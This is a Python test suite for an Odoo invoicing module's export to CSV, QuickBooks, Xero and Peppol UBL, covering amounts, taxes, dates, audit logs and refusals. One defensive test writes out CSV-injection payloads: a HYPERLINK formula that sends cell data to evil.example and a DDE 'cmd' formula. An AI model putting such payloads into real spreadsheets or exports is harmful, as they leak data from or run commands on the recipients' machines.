import base64
import csv
import io
import zipfile
from unittest.mock import patch

from lxml import etree

from odoo import Command
from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from ..export import xero
from .common import AtlasTestCommon

# The import templates' headers, as listed in EXPORT_FORMATS.md (Xero: the current template;
# QuickBooks: the 13 mapped columns, then the tax-enabled companies' columns and Currency).
XERO_HEADER = (
    "*ContactName,EmailAddress,POAddressLine1,POAddressLine2,POAddressLine3,POAddressLine4,POCity,PORegion,"
    "POPostalCode,POCountry,*InvoiceNumber,Reference,*InvoiceDate,*DueDate,InventoryItemCode,*Description,"
    "*Quantity,*UnitAmount,Discount,*AccountCode,*TaxType,TrackingName1,TrackingOption1,TrackingName2,"
    "TrackingOption2,Currency,BrandingTheme"
)
QUICKBOOKS_HEADER = (
    "*InvoiceNo,*Customer,*InvoiceDate,*DueDate,Terms,Location,Memo,Item(Product/Service),ItemDescription,"
    "ItemQuantity,ItemRate,*ItemAmount,Service Date" + ",ItemTaxCode,ItemTaxAmount,Currency"
)
GENERIC_HEADER = (
    "invoice_number,document_type,invoice_date,due_date,customer,customer_vat,currency,reference,line_number,"
    "product_code,description,account_code,quantity,unit_price,discount_percent,taxes,line_subtotal,line_tax,"
    "line_total,invoice_untaxed,invoice_tax,invoice_total,amount_due,status"
)


def money(value):
    return f"{value:.2f}"


@tagged("post_install", "-at_install")
class TestExport(AtlasTestCommon):
    """Export to generic CSV, QuickBooks Online and Xero: exact headers, amounts and taxes,
    the Exported status, the log, byte-identical re-exports, and what is refused."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.customer.write(
            {
                "street": "1 Harbour Road",
                "city": "Wellington",
                "zip": "6011",
                "country_id": cls.env.ref("base.nz").id,
                "vat": "123-456-789",
            }
        )
        cls.vat_15 = cls.env["account.tax"].create(
            {"name": "GST on Income 15%", "amount_type": "percent", "amount": 15.0, "type_tax_use": "sale"}
        )
        cls.revenue = cls.company_data["default_account_revenue"]
        cls.payment_term = cls.env.ref("account.account_payment_term_30days")

    def _invoice(self, **values):
        """Two lines, a 15% tax and a 10% discount on the first line."""
        return self.env["account.move"].create(
            {
                "move_type": "out_invoice",
                "partner_id": self.customer.id,
                "invoice_date": "2026-01-15",
                "invoice_payment_term_id": self.payment_term.id,
                "ref": "PO-7781",
                "invoice_line_ids": [
                    Command.create(
                        {
                            "name": "Consulting, January",
                            "account_id": self.revenue.id,
                            "quantity": 3,
                            "price_unit": 120.0,
                            "discount": 10.0,
                            "tax_ids": [Command.set(self.vat_15.ids)],
                        }
                    ),
                    Command.create(
                        {
                            "name": "Support plan",
                            "account_id": self.revenue.id,
                            "quantity": 1,
                            "price_unit": 49.99,
                            "tax_ids": [Command.set(self.vat_15.ids)],
                        }
                    ),
                ],
                **values,
            }
        )

    def _sent_invoice(self, **values):
        invoice = self._invoice(**values)
        invoice.action_atlas_mark_sent()
        return invoice

    def _export(self, invoices, export_format, user=None, **kwargs):
        """Export as an accountant over the public method; return (result, file bytes)."""
        user = user or self.users["accountant"]
        # The language the web client would send for this user.
        invoices = invoices.with_user(user).with_context(lang=user.lang)
        result = invoices.atlas_export(export_format, **kwargs)
        return result, base64.b64decode(result["content"])

    def _csv_rows(self, content):
        return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))

    def _lines(self, invoice):
        return invoice.invoice_line_ids.sorted(lambda line: (line.sequence, line.id))

    # -------------------------------------------------------------------------
    # Headers and rows
    # -------------------------------------------------------------------------

    def test_headers_are_exactly_the_import_templates(self):
        invoice = self._sent_invoice()
        headers = {"xero": XERO_HEADER, "quickbooks": QUICKBOOKS_HEADER, "csv": GENERIC_HEADER}
        for export_format, header in headers.items():
            with self.subTest(export_format=export_format):
                result, content = self._export(invoice, export_format)
                self.assertEqual(content.split(b"\r\n")[0].decode(), header)
                self.assertEqual(result["mimetype"], "text/csv")
                self.assertTrue(result["file_name"].endswith(".csv"))
                # UTF-8 without BOM, RFC 4180 line ends, one row per invoice line.
                self.assertFalse(content.startswith(b"\xef\xbb\xbf"))
                self.assertEqual(content.count(b"\r\n"), 3)
                self.assertNotIn(b"\n", content.replace(b"\r\n", b""))

    def test_xero_rows(self):
        # A New Zealand organisation, whose GST rate is named as in its Xero.
        self.company_data["company"].country_id = self.env.ref("base.nz")
        self.vat_15.atlas_xero_tax_type = "15% GST on Income"
        invoice = self._sent_invoice()
        first, second = self._lines(invoice)
        _result, content = self._export(invoice, "xero")
        header, *rows = self._csv_rows(content)
        rows = [dict(zip(header, row, strict=True)) for row in rows]
        self.assertEqual(len(rows), 2)
        for row in rows:
            self.assertEqual(row["*ContactName"], "Northwind Traders")
            self.assertEqual(row["EmailAddress"], "billing@northwind.example")
            self.assertEqual(row["POAddressLine1"], "1 Harbour Road")
            self.assertEqual(row["POCity"], "Wellington")
            self.assertEqual(row["POPostalCode"], "6011")
            self.assertEqual(row["POCountry"], "New Zealand")
            self.assertEqual(row["*InvoiceNumber"], invoice.name)
            self.assertEqual(row["Reference"], "PO-7781")
            self.assertEqual(row["*InvoiceDate"], "15/01/2026")  # DD/MM/YYYY
            self.assertEqual(row["*DueDate"], "14/02/2026")  # 30 days
            self.assertEqual(row["*AccountCode"], self.revenue.code)
            self.assertEqual(row["*TaxType"], "15% GST on Income")
            self.assertEqual(row["Currency"], invoice.currency_id.name)
        # Xero recomputes amounts from quantity, tax-exclusive unit amount and discount %.
        self.assertEqual(
            [(r["*Description"], r["*Quantity"], r["*UnitAmount"], r["Discount"]) for r in rows],
            [("Consulting, January", "3.00", "120.00", "10.00"), ("Support plan", "1.00", "49.99", "")],
        )
        # What Xero will compute from the row is what Odoo booked.
        for row, line in zip(rows, (first, second), strict=True):
            discount = float(row["Discount"] or 0)
            xero_subtotal = round(float(row["*Quantity"]) * float(row["*UnitAmount"]) * (1 - discount / 100), 2)
            self.assertAlmostEqual(xero_subtotal, line.price_subtotal)

    def _xero_rows(self, invoices):
        _result, content = self._export(invoices, "xero")
        header, *rows = self._csv_rows(content)
        return [dict(zip(header, row, strict=True)) for row in rows]

    def test_xero_dates_in_the_organisation_format(self):
        company = self.company_data["company"]
        invoice = self._sent_invoice()
        # A US organisation reads dates month first, whatever the customer's country.
        company.country_id = self.env.ref("base.us")
        [row, _second] = self._xero_rows(invoice)
        self.assertEqual((row["*InvoiceDate"], row["*DueDate"]), ("01/15/2026", "02/14/2026"))
        # Any other region, day first.
        for country in ("base.nz", "base.au", "base.uk"):
            with self.subTest(country=country):
                company.country_id = self.env.ref(country)
                [row, _second] = self._xero_rows(invoice)
                self.assertEqual((row["*InvoiceDate"], row["*DueDate"]), ("15/01/2026", "14/02/2026"))
        # Without a country, the company's language says: US English writes the month first.
        company.country_id = False
        company.partner_id.lang = "en_US"
        [row, _second] = self._xero_rows(invoice)
        self.assertEqual((row["*InvoiceDate"], row["*DueDate"]), ("01/15/2026", "02/14/2026"))

    def test_xero_tax_type_is_the_xero_tax_rate(self):
        zero = self.env["account.tax"].create(
            {"name": "0%", "amount_type": "percent", "amount": 0.0, "type_tax_use": "sale"}
        )
        invoice = self._invoice()
        first, second = self._lines(invoice)
        second.tax_ids = zero
        untaxed = self._invoice()
        untaxed.invoice_line_ids.tax_ids = False
        (invoice | untaxed).action_atlas_mark_sent()
        # Without a mapping: Xero's default rate names, never Odoo's tax name.
        rows = self._xero_rows(invoice | untaxed)
        self.assertEqual([row["*TaxType"] for row in rows], ["Tax on Sales", "Tax Exempt", "Tax Exempt", "Tax Exempt"])
        # The tax's Xero Tax Type wins.
        self.vat_15.atlas_xero_tax_type = "Sales Tax (CA)"
        zero.atlas_xero_tax_type = "Zero Rated"
        rows = self._xero_rows(invoice)
        self.assertEqual([row["*TaxType"] for row in rows], ["Sales Tax (CA)", "Zero Rated"])
        self.assertEqual(first.tax_ids, self.vat_15)

    def test_xero_refuses_two_tax_rates_on_a_line(self):
        county = self.env["account.tax"].create(
            {"name": "County tax 1%", "amount_type": "percent", "amount": 1.0, "type_tax_use": "sale"}
        )
        self.vat_15.atlas_xero_tax_type = "State Tax"
        county.atlas_xero_tax_type = "County Tax"
        invoice = self._invoice()
        first, _second = self._lines(invoice)
        first.tax_ids = self.vat_15 | county
        invoice.action_atlas_mark_sent()
        with self.assertRefused(UserError, r"Xero takes one tax rate per line.*\(State Tax, County Tax\)"):
            self._export(invoice, "xero")
        self.assertFalse(invoice.atlas_exported_date)
        self.assertFalse(self.env["atlas.export.log"].search([("invoice_ids", "in", invoice.ids)]))
        # One combined rate in Xero: the line exports.
        county.atlas_xero_tax_type = "State Tax"
        [row, _second] = self._xero_rows(invoice)
        self.assertEqual(row["*TaxType"], "State Tax")

    def test_quickbooks_rows(self):
        invoice = self._sent_invoice()
        first, second = self._lines(invoice)
        _result, content = self._export(invoice, "quickbooks")
        header, *rows = self._csv_rows(content)
        rows = [dict(zip(header, row, strict=True)) for row in rows]
        for row in rows:
            self.assertEqual(row["*InvoiceNo"], invoice.name)
            self.assertEqual(row["*Customer"], "Northwind Traders")
            self.assertEqual(row["*InvoiceDate"], "01/15/2026")  # MM/DD/YYYY
            self.assertEqual(row["*DueDate"], "02/14/2026")
            self.assertEqual(row["Terms"], self.payment_term.name)
            self.assertEqual(row["Memo"], "PO-7781")
            self.assertEqual(row["ItemTaxCode"], "GST on Income 15%")
        # ItemRate is net of the discount; ItemAmount the line subtotal; ItemTaxAmount its tax.
        self.assertEqual(
            [
                (r["ItemDescription"], r["ItemQuantity"], r["ItemRate"], r["*ItemAmount"], r["ItemTaxAmount"])
                for r in rows
            ],
            [
                ("Consulting, January", "3.00", "108.00", "324.00", "48.60"),
                ("Support plan", "1.00", "49.99", "49.99", "7.50"),
            ],
        )
        for row, line in zip(rows, (first, second), strict=True):
            self.assertEqual(row["*ItemAmount"], money(line.price_subtotal))
            self.assertEqual(row["ItemTaxAmount"], money(line.price_total - line.price_subtotal))
        self.assertEqual(sum(float(r["*ItemAmount"]) for r in rows), invoice.amount_untaxed)
        self.assertAlmostEqual(sum(float(r["ItemTaxAmount"]) for r in rows), invoice.amount_tax)

    def test_generic_csv_rows(self):
        invoice = self._sent_invoice()
        _result, content = self._export(invoice, "csv")
        header, *rows = self._csv_rows(content)
        rows = [dict(zip(header, row, strict=True)) for row in rows]
        self.assertEqual(
            [
                (r["description"], r["quantity"], r["unit_price"], r["discount_percent"])
                + (r["line_subtotal"], r["line_tax"], r["line_total"])
                for r in rows
            ],
            [
                ("Consulting, January", "3.00", "120.00", "10.00", "324.00", "48.60", "372.60"),
                ("Support plan", "1.00", "49.99", "0.00", "49.99", "7.50", "57.49"),
            ],
        )
        for index, (row, line) in enumerate(zip(rows, self._lines(invoice), strict=True), start=1):
            self.assertEqual(row["line_number"], str(index))
            self.assertEqual(row["line_subtotal"], money(line.price_subtotal))
            self.assertEqual(row["line_total"], money(line.price_total))
            self.assertEqual(
                (row["invoice_untaxed"], row["invoice_tax"], row["invoice_total"], row["amount_due"]),
                ("373.99", "56.10", "430.09", "430.09"),
            )
            self.assertEqual(
                (row["invoice_untaxed"], row["invoice_tax"], row["invoice_total"]),
                (money(invoice.amount_untaxed), money(invoice.amount_tax), money(invoice.amount_total)),
            )
            self.assertEqual(
                (row["invoice_number"], row["document_type"], row["invoice_date"], row["due_date"]),
                (invoice.name, "invoice", "2026-01-15", "2026-02-14"),
            )
            self.assertEqual((row["customer"], row["customer_vat"]), ("Northwind Traders", "123-456-789"))
            self.assertEqual((row["taxes"], row["account_code"]), ("GST on Income 15%", self.revenue.code))
            self.assertEqual(row["status"], "Exported")

    def test_no_cell_starts_a_formula(self):
        # A customer, a line and a reference whose text a spreadsheet would run as a formula
        # (CSV injection): each comes out with a leading apostrophe, in every CSV format; the
        # amounts, a negative one included, stay numbers.
        self.company_data["company"].country_id = self.env.ref("base.nz")
        starts = ["=", "+", "-", "@", "\t", "\r"]
        invoices = self.env["account.move"]
        for start in starts:
            customer = self.customer.copy({"name": f'{start}HYPERLINK("http://evil.example/?x="&A1,"Click")'})
            invoice = self._invoice(partner_id=customer.id, ref=f"{start}1+1")
            invoice.invoice_line_ids[0].name = f"{start}SUM(1+1)*cmd|' /C calc'!A0"
            invoice.invoice_line_ids[1].write({"name": "Loyalty credit", "price_unit": -150.0, "tax_ids": []})
            invoice.action_atlas_mark_sent()
            invoices |= invoice
        columns = {
            "csv": ("customer", "reference", "description", "line_subtotal"),
            "quickbooks": ("*Customer", "Memo", "ItemDescription", "*ItemAmount"),
            "xero": ("*ContactName", "Reference", "*Description", "*UnitAmount"),
        }
        for export_format, (customer_column, reference_column, description_column, amount_column) in columns.items():
            with self.subTest(export_format=export_format):
                _result, content = self._export(invoices, export_format)
                header, *rows = self._csv_rows(content)
                rows = [dict(zip(header, row, strict=True)) for row in rows]
                self.assertEqual(len(rows), 2 * len(starts))
                for row in rows:
                    for column, value in row.items():
                        if value[:1] in starts:
                            self.assertRegex(value, r"^-?[0-9]+\.[0-9]+$", f"{column} starts a formula")
                pairs = zip(rows[::2], rows[1::2], strict=True)
                for invoice, (first, second) in zip(invoices.sorted("name"), pairs, strict=True):
                    # Odoo trims a name and a reference of their leading tab or line end; what
                    # is kept of them is neutralised.
                    for row in (first, second):
                        self.assertEqual(row[customer_column], "'" + invoice.commercial_partner_id.name)
                        if invoice.ref:
                            self.assertEqual(row[reference_column], "'" + invoice.ref)
                    self.assertEqual(first[description_column], "'" + self._lines(invoice)[0].name)
                    self.assertEqual(second[description_column], "Loyalty credit")
                    self.assertEqual(second[amount_column], "-150.00")

    def test_several_invoices_in_number_order(self):
        first, second = self._sent_invoice(), self._sent_invoice()
        _result, content = self._export(second | first, "xero")
        numbers = [row[10] for row in self._csv_rows(content)[1:]]
        self.assertEqual(numbers, [first.name, first.name, second.name, second.name])

    # -------------------------------------------------------------------------
    # Status, log, determinism
    # -------------------------------------------------------------------------

    def test_export_sets_exported_and_logs_who_when_format_file(self):
        invoices = self._sent_invoice() | self._sent_invoice()
        self.assertEqual(set(invoices.mapped("atlas_status")), {"sent"})
        result, content = self._export(invoices, "xero")
        self.assertEqual(set(invoices.mapped("atlas_status")), {"exported"})
        self.assertTrue(all(invoices.mapped("atlas_exported_date")))

        log = self.env["atlas.export.log"].browse(result["log_id"])
        self.assertRecordValues(
            log,
            [
                {
                    "name": result["log_name"],
                    "export_format": "xero",
                    "user_id": self.users["accountant"].id,
                    "company_id": invoices.company_id.id,
                    "invoice_ids": invoices.ids,
                    "invoice_count": 2,
                    "file_name": result["file_name"],
                    "mimetype": "text/csv",
                }
            ],
        )
        self.assertTrue(log.name.startswith("EXP/"))
        self.assertTrue(log.create_date)
        self.assertEqual(log.attachment_id.raw, content)
        self.assertEqual((log.attachment_id.res_model, log.attachment_id.res_id), ("atlas.export.log", log.id))
        self.assertEqual(len(log.checksum), 64)
        for invoice in invoices:
            self.assertIn(f"Exported to Xero CSV (log {log.name})", invoice.message_ids[0].body)
        # The accountant reads the log; a viewer does not.
        self.assertEqual(log.with_user(self.users["accountant"]).file_name, result["file_name"])
        with self.assertRaises(AccessError):
            log.with_user(self.users["viewer"]).read(["file_name"])
        # Nobody writes or deletes the log by hand.
        with self.assertRaises(AccessError):
            log.with_user(self.users["accountant"]).write({"file_name": "forged.csv"})
        with self.assertRaises(AccessError):
            self.env["atlas.export.log"].with_user(self.users["accountant"]).create(
                {"export_format": "csv", "company_id": invoices.company_id.id}
            )

    def test_same_invoices_give_the_same_bytes(self):
        invoices = self._sent_invoice() | self._sent_invoice()
        # Tax names are translatable: the file is written in the company's language, whoever exports.
        self.env["res.lang"]._activate_lang("fr_FR")
        self.vat_15.with_context(lang="fr_FR").name = "TPS sur ventes 15%"
        self.users["admin"].lang = "fr_FR"
        for export_format in ("csv", "quickbooks", "xero"):
            with self.subTest(export_format=export_format):
                first, first_bytes = self._export(invoices, export_format)
                # Another user, in French, selecting in another order: same file.
                second, second_bytes = self._export(invoices[::-1], export_format, user=self.users["admin"])
                self.assertEqual(first_bytes, second_bytes)
                self.assertNotEqual(first["log_id"], second["log_id"])  # a new log each time
                logs = self.env["atlas.export.log"].browse([first["log_id"], second["log_id"]])
                self.assertEqual(len(set(logs.mapped("checksum"))), 1)
                self.assertEqual(first["file_name"], second["file_name"])
                self.assertNotIn(b"TPS sur ventes", second_bytes)

    def test_paid_invoice_stays_paid_when_exported(self):
        # Status precedence (account_move.py): Refunded > Paid > Partially Paid > Exported.
        invoice = self._sent_invoice()
        invoice.atlas_record_payment()
        self.assertEqual(invoice.atlas_status, "paid")
        _result, content = self._export(invoice, "csv")
        self.assertEqual(invoice.atlas_status, "paid")
        self.assertTrue(invoice.atlas_exported_date)
        row = self._csv_rows(content)[1]
        self.assertEqual((row[-2], row[-1]), ("0.00", "Paid"))

    def test_posted_outside_atlas_becomes_exported(self):
        invoice = self._invoice()
        invoice.action_post()
        self.assertEqual(invoice.atlas_status, "posted")
        self._export(invoice, "quickbooks")
        self.assertEqual(invoice.atlas_status, "exported")

    # -------------------------------------------------------------------------
    # Drafts and what is refused
    # -------------------------------------------------------------------------

    def test_drafts_refused_and_nothing_changes(self):
        sent = self._sent_invoice()
        draft = self._invoice()
        logs_before = self.env["atlas.export.log"].search_count([])
        with self.assertRefused(UserError, r"Draft invoices can't be exported: .*Northwind Traders.*post_drafts=True"):
            self._export(sent | draft, "xero")
        self.assertEqual(self.env["atlas.export.log"].search_count([]), logs_before)
        self.assertRecordValues(
            sent | draft,
            [
                {"atlas_status": "sent", "atlas_exported_date": False, "state": "posted"},
                {"atlas_status": "draft", "atlas_exported_date": False, "state": "draft"},
            ],
        )

    def test_post_drafts_posts_then_exports(self):
        sent = self._sent_invoice()
        draft = self._invoice()
        result, content = self._export(sent | draft, "xero", post_drafts=True)
        self.assertRecordValues(draft, [{"state": "posted", "atlas_status": "exported"}])
        self.assertTrue(draft.line_ids.filtered(lambda line: line.account_type == "asset_receivable"))
        self.assertEqual(sent.atlas_status, "exported")
        numbers = {row[10] for row in self._csv_rows(content)[1:]}
        self.assertEqual(numbers, {sent.name, draft.name})
        self.assertEqual(self.env["atlas.export.log"].browse(result["log_id"]).invoice_ids, sent | draft)

    def test_bookkeeper_may_not_export(self):
        invoice = self._sent_invoice()
        with self.assertRefused(AccessError, "Accountant"):
            self._export(invoice, "csv", user=self.users["bookkeeper"])
        self.assertRecordValues(invoice, [{"atlas_status": "sent", "atlas_exported_date": False}])

    def test_cancelled_refused(self):
        invoice = self._invoice()
        invoice.button_cancel()
        with self.assertRefused(UserError, "Cancelled invoices are not exported"):
            self._export(invoice, "csv")

    def test_vendor_bills_and_other_companies_refused(self):
        bill = self.init_invoice("in_invoice", amounts=[100.0], post=True)
        with self.assertRefused(UserError, "Only customer invoices and credit notes can be exported"):
            self._export(bill, "csv")
        other_company = self.setup_other_company()["company"]
        self.users["accountant"].company_ids |= other_company
        other = (
            self.env["account.move"]
            .with_company(other_company)
            .create(
                {
                    "move_type": "out_invoice",
                    "partner_id": self.customer.id,
                    "invoice_date": "2026-01-15",
                    "invoice_line_ids": [Command.create({"name": "Work", "price_unit": 10.0, "tax_ids": []})],
                }
            )
        )
        other.action_post()
        with self.assertRefused(UserError, "one company at a time"):
            self._export(self._sent_invoice() | other, "csv")

    def test_credit_notes(self):
        invoice = self._sent_invoice()
        credit_note = self.env["account.move"].browse(invoice.atlas_refund()["credit_note_id"])
        for export_format in ("xero", "quickbooks"):
            with self.subTest(export_format=export_format):
                with self.assertRefused(UserError, "invoice import does not take credit notes: " + credit_note.name):
                    self._export(credit_note, export_format)
        _result, content = self._export(credit_note, "csv")
        row = dict(zip(*self._csv_rows(content)[:2], strict=True))
        self.assertEqual((row["document_type"], row["invoice_total"]), ("credit_note", money(credit_note.amount_total)))
        # The invoice it refunds stays Refunded: Refunded outranks Exported.
        self._export(invoice, "csv")
        self.assertEqual(invoice.atlas_status, "refunded")

    def test_xero_file_limit(self):
        invoices = self._sent_invoice() | self._sent_invoice()
        with patch.object(xero, "MAX_INVOICES", 1):
            with self.assertRefused(UserError, "Xero imports at most 1 invoices per file and the selection holds 2"):
                self._export(invoices, "xero")
        self.assertFalse(any(invoices.mapped("atlas_exported_date")))

    def test_unknown_format_refused(self):
        with self.assertRefused(UserError, "Unknown export format “sage”. Choose one of: csv, quickbooks, xero, ubl"):
            self._export(self._sent_invoice(), "sage")

    # -------------------------------------------------------------------------
    # Wizard
    # -------------------------------------------------------------------------

    def test_wizard_from_the_export_button_downloads_the_logged_file(self):
        invoices = self._sent_invoice() | self._invoice()
        action = invoices.with_user(self.users["accountant"]).action_atlas_export()
        wizard = (
            self.env[action["res_model"]]
            .with_user(self.users["accountant"])
            .with_context(**action["context"])
            .create({"export_format": "quickbooks"})
        )
        self.assertEqual(wizard.invoice_ids, invoices)
        self.assertEqual(wizard.draft_count, 1)
        with self.assertRefused(UserError, "Draft invoices can't be exported"):
            wizard.action_export()
        wizard.post_drafts = True
        download = wizard.action_export()
        log = self.env["atlas.export.log"].search([], limit=1)
        self.assertEqual(log.invoice_ids, invoices)
        self.assertEqual(download["type"], "ir.actions.act_url")
        self.assertEqual(download["url"], f"/web/content/{log.attachment_id.id}?download=true")
        self.assertEqual(set(invoices.mapped("atlas_status")), {"exported"})

    def test_wizard_columns_are_an_invoices_not_a_bills(self):
        # Odoo's "Invoice/Bill Date" was cut to "Invoice/Bil…" in the dialog's narrow column.
        arch = etree.fromstring(self.env["atlas.invoice.export"].get_view(view_type="form")["arch"])
        move_fields = self.env["account.move"]._fields
        self.assertEqual(
            [
                column.get("string") or move_fields[column.get("name")].string
                for column in arch.xpath("//field[@name='invoice_ids']/list/field[not(@column_invisible)]")
            ],
            ["Number", "Customer", "Invoice Date", "Total", "Status"],
        )

    def test_wizard_from_the_action_menu_takes_the_selection(self):
        invoices = self._sent_invoice() | self._sent_invoice()
        wizard = (
            self.env["atlas.invoice.export"]
            .with_user(self.users["accountant"])
            .with_context(active_model="account.move", active_ids=invoices.ids)
            .create({"export_format": "csv"})
        )
        self.assertEqual(wizard.invoice_ids, invoices)
        action = self.env.ref("atlas_invoicing.action_atlas_invoice_export")
        self.assertEqual(action.binding_model_id.model, "account.move")
        self.assertEqual(action.groups_id, self.env.ref("atlas_invoicing.group_atlas_accountant"))


@tagged("post_install", "-at_install")
class TestExportUbl(AtlasTestCommon):
    """UBL / Peppol BIS 3 through Odoo's own builder, read back by Odoo's own import."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        belgium = cls.env.ref("base.be")
        cls.company = cls.company_data["company"]
        # Seller and buyer data as in Odoo's own Belgian UBL tests (l10n_account_edi_ubl_cii_tests).
        cls.company.write(
            {
                "street": "Chaussée de Namur 40",
                "zip": "1367",
                "city": "Ramillies",
                "vat": "BE0246697724",
                "country_id": belgium.id,
            }
        )
        # Peppol's credit transfer needs the account the customer pays into.
        cls.company.partner_id.bank_ids = [Command.create({"acc_number": "BE15001559627230"})]
        cls.buyer = cls.env["res.partner"].create(
            {
                "name": "Bourlottes Consulting",
                "street": "Rue des Bourlottes 9",
                "zip": "1367",
                "city": "Ramillies",
                "vat": "BE0477472701",
                "country_id": belgium.id,
                "email": "ap@bourlottes.example",
                "ref": "ref_partner_2",
            }
        )
        cls.tax_15 = cls.env["account.tax"].create(
            {"name": "VAT 15%", "amount_type": "percent", "amount": 15.0, "type_tax_use": "sale"}
        )
        # Company B, which receives the invoice as a vendor bill (its chart has a 15% purchase tax).
        cls.company_b_data = cls.setup_other_company(name="Company B")
        cls.company_b = cls.company_b_data["company"]
        cls.company_b.write({"country_id": belgium.id, "vat": "BE0477472701"})

    def _invoice(self, partner=None):
        invoice = self.env["account.move"].create(
            {
                "move_type": "out_invoice",
                "partner_id": (partner or self.buyer).id,
                "invoice_date": "2026-01-15",
                "ref": "PO-2026-118",
                "invoice_line_ids": [
                    Command.create(
                        {
                            "name": "Consulting, January",
                            "quantity": 3,
                            "price_unit": 120.0,
                            "discount": 10.0,
                            "tax_ids": [Command.set(self.tax_15.ids)],
                        }
                    ),
                    Command.create(
                        {
                            "name": "Support plan",
                            "quantity": 1,
                            "price_unit": 49.99,
                            "tax_ids": [Command.set(self.tax_15.ids)],
                        }
                    ),
                ],
            }
        )
        invoice.action_atlas_mark_sent()
        return invoice

    def _export(self, invoices):
        result = invoices.with_user(self.users["accountant"]).atlas_export("ubl")
        return result, base64.b64decode(result["content"])

    def test_ubl_round_trip_into_another_company(self):
        invoice = self._invoice()
        result, xml = self._export(invoice)
        self.assertEqual(result["mimetype"], "application/xml")
        self.assertTrue(xml.startswith(b"<?xml"))
        self.assertIn(b"urn:cen.eu:en16931:2017#compliant#urn:fdc:peppol.eu:2017:poacc:billing:3.0", xml)
        self.assertEqual(invoice.atlas_status, "exported")

        # Company B imports the file as a vendor bill with Odoo's own UBL import.
        attachment = (
            self.env["ir.attachment"]
            .with_company(self.company_b)
            .create({"name": result["file_name"], "raw": xml, "mimetype": "application/xml"})
        )
        journal = self.company_b_data["default_journal_purchase"]
        bill = journal.with_company(self.company_b)._create_document_from_attachment(attachment.ids)
        self.assertRecordValues(
            bill,
            [
                {
                    "move_type": "in_invoice",
                    "company_id": self.company_b.id,
                    "ref": invoice.name,
                    "invoice_date": invoice.invoice_date,
                    "currency_id": invoice.currency_id.id,
                    "amount_untaxed": invoice.amount_untaxed,
                    "amount_tax": invoice.amount_tax,
                    "amount_total": invoice.amount_total,
                }
            ],
        )
        self.assertEqual((bill.amount_untaxed, bill.amount_tax, bill.amount_total), (373.99, 56.10, 430.09))
        self.assertRecordValues(
            bill.invoice_line_ids.sorted(lambda line: (line.sequence, line.id)),
            [
                {
                    "name": line.name,
                    "quantity": line.quantity,
                    "price_unit": line.price_unit,
                    "discount": line.discount,
                    "price_subtotal": line.price_subtotal,
                }
                for line in invoice.invoice_line_ids.sorted(lambda line: (line.sequence, line.id))
            ],
        )
        # Company B's own 15% purchase tax on each line.
        for line in bill.invoice_line_ids:
            self.assertEqual(line.tax_ids.mapped("amount"), [15.0])
            self.assertEqual(line.tax_ids.mapped("type_tax_use"), ["purchase"])
            self.assertEqual(line.tax_ids.company_id, self.company_b)

    def test_several_invoices_give_a_stable_zip(self):
        invoices = self._invoice() | self._invoice()
        result, content = self._export(invoices)
        self.assertEqual(result["mimetype"], "application/zip")
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            names = archive.namelist()
            expected = sorted(f"{name.replace('/', '_')}_ubl_bis3.xml" for name in invoices.mapped("name"))
            self.assertEqual(names, expected)
            self.assertEqual({info.date_time for info in archive.infolist()}, {(1980, 1, 1, 0, 0, 0)})
        _again, content_again = self._export(invoices)
        self.assertEqual(content, content_again)

    def test_a_line_without_one_tax_is_named_once(self):
        invoice = self._invoice()
        consulting, support = invoice.invoice_line_ids.sorted(lambda line: (line.sequence, line.id))
        invoice.button_draft()
        second_tax = self.tax_15.copy({"name": "VAT 5%", "amount": 5.0})
        invoice.write(
            {
                "invoice_line_ids": [
                    Command.update(consulting.id, {"tax_ids": [Command.clear()]}),
                    Command.update(support.id, {"tax_ids": [Command.link(second_tax.id)]}),
                ]
            }
        )
        invoice.action_post()
        with self.assertRaises(UserError) as refused:
            self._export(invoice)
        # Odoo's builder gives two near-identical messages for the whole invoice; one line each instead.
        self.assertEqual(
            str(refused.exception).split("\n", 1)[1],
            f"{invoice.name}:\n"
            "  - Line “Consulting, January” has no tax: Peppol needs exactly one tax on each line "
            "(a zero-rate tax when none applies).\n"
            "  - Line “Support plan” has 2 taxes (VAT 15%, VAT 5%): Peppol needs exactly one tax on each line.",
        )

    def test_missing_peppol_details_listed_and_nothing_changes(self):
        no_vat = self.env["res.partner"].create({"name": "Nowhere Ltd"})
        invoice = self._invoice(partner=no_vat)
        with self.assertRefused(UserError, rf"can't be exported as Peppol BIS 3 \(UBL\).*\n{invoice.name}:\n  - "):
            self._export(invoice)
        self.assertRecordValues(invoice, [{"atlas_status": "sent", "atlas_exported_date": False}])
        self.assertFalse(self.env["atlas.export.log"].search([]))
